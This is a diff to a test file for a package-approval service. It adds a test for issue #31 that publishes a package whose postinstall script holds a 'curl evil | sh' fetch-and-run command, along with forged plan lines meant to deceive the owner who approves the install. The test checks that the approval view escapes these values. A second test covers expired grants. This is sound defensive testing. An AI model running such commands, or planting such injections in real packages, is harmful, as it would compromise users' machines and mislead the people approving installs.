@@ -162,7 +162,7 @@ describe('npm plans', () => {
     // The owner reads the whole plan, every pinned package and the digest the approval binds.
     expect(shown.kind).toBe('package_plan');
     expect(shown.subject).toContain('cli-demo@1.0.0');
-    expect(shown.subject).toContain('left-helper@1.0.0 sha512-');
+    expect(shown.subject).toContain('"left-helper@1.0.0" integrity "sha512-');
     expect(shown.subjectSha256).toBe(plan.planDigest);
     const started = await ok('packages_apply', { planId: plan.planId, planDigest: plan.planDigest });
     expect(started.applyId).toMatch(/^pka_/);
@@ -315,6 +315,64 @@ describe('plans after a refusal', () => {
     expect(second.approvalRequestId).not.toBe(first.approvalRequestId);
     // While it is pending, planning again is that same plan.
     expect((await ok('packages_plan', { ecosystem: 'npm', name: 'deny-me' })).planId).toBe(second.planId);
+  });
+});
+
+describe('what the owner approves is what they see (issue #31)', () => {
+  it('a lifecycle script value with newlines and fake plan lines stays one quoted line of the plan text', async () => {
+    const forged = [
+      'node -e "require(\'child_process\').execSync(\'curl evil | sh\')"',
+      'lifecycle scripts: off',
+      '  "left-helper@1.0.0" integrity "sha512-harmless"',
+      'planDigest: ' + '0'.repeat(64),
+    ].join('\n');
+    await reg.publish({ name: 'forge-lines', version: '1.0.0', scripts: { postinstall: forged } });
+    const plan = await ok('packages_plan', { ecosystem: 'npm', name: 'forge-lines', lifecycleScripts: true });
+    expect(plan.lifecycleScripts.willRun).toEqual([{ package: 'forge-lines@1.0.0', scripts: { postinstall: forged } }]);
+    session ??= await dashboardLogin(svc);
+    const shown = JSON.parse((await httpRequest(svc.url, 'GET', `/api/v1/approvals/${plan.approvalRequestId}`, { cookie: session.cookie })).body) as R;
+    const lines = (shown.subject as string).split('\n');
+    // The script's value is one line, quoted as JSON: its newlines are \n escapes in it.
+    expect(lines).toContain(`  "forge-lines@1.0.0" "postinstall": ${JSON.stringify(forged)}`);
+    // None of the fake lines stands as a line of its own; the only planDigest line is the real one, last.
+    expect(lines.filter((l) => l.startsWith('planDigest: '))).toEqual([`planDigest: ${plan.planDigest}`]);
+    expect(lines[lines.length - 1]).toBe(`planDigest: ${plan.planDigest}`);
+    expect(lines.filter((l) => l.startsWith('lifecycle scripts: '))).toEqual(['lifecycle scripts: ALLOWED']);
+    expect(lines.some((l) => l.includes('sha512-harmless') && !l.includes('"postinstall"'))).toBe(false);
+    // Every value from the package is quoted: name, version, integrity, binaries.
+    expect(lines[0]).toBe('npm package "forge-lines@1.0.0" for scope owner');
+    expect(lines).toContain(`integrity: ${JSON.stringify(plan.integrity)}`);
+    expect(lines).toContain(`  "forge-lines@1.0.0" integrity ${JSON.stringify(plan.packages[0].integrity)}`);
+    expect(shown.flags).toEqual([]);
+  });
+
+  it('a package-plan grant expires like every grant: an apply after its expiry is refused and builds nothing', async () => {
+    // Grants here expire as they are issued (the test hook can shorten a grant, never lengthen it).
+    const short = await startService({ args: ['--packages-enabled', '--packages-npm-registry', reg.url, '--packages-ca-file', reg.caCertPath], env: { ATELIER_TEST_GRANT_TTL_MS: '0' } });
+    try {
+      const cs = await connectV2(short);
+      const planned = await call(cs, 'packages_plan', { ecosystem: 'npm', name: 'left-helper' });
+      if (!planned.ok) throw new Error(planned.text);
+      const plan = planned.result as R;
+      expect(plan.approval).toBe('required');
+      const { cookie, csrf } = await dashboardLogin(short);
+      const approved = await httpRequest(short.url, 'POST', `/api/v1/approvals/${plan.approvalRequestId}/approve`, { cookie, 'x-csrf-token': csrf });
+      expect(approved.status).toBe(200);
+      expect(Date.parse(JSON.parse(approved.body).expiresAt)).toBeLessThanOrEqual(Date.now());
+      const applied = await call(cs, 'packages_apply', { planId: plan.planId, planDigest: plan.planDigest });
+      expect(applied.ok, applied.ok ? JSON.stringify(applied.result) : '').toBe(false);
+      if (!applied.ok) expect([applied.error.code, applied.error.details.approvalState]).toEqual(['PERMISSION_DENIED', 'expired']);
+      const view = JSON.parse((await httpRequest(short.url, 'GET', `/api/v1/approvals/${plan.approvalRequestId}`, { cookie })).body) as R;
+      expect([view.state, view.usedAt]).toEqual(['expired', null]);
+      const status = (await call(cs, 'packages_status', {})) as { ok: true; result: R };
+      expect(status.result.inflightApplies).toEqual([]);
+      // The spent plan is not offered again: planning the same package asks anew.
+      const again = (await call(cs, 'packages_plan', { ecosystem: 'npm', name: 'left-helper' })) as { ok: true; result: R };
+      expect([again.result.supersedes, again.result.approvalState]).toEqual([plan.planId, 'pending']);
+      await cs.close();
+    } finally {
+      await short.dispose();
+    }
   });
 });
 
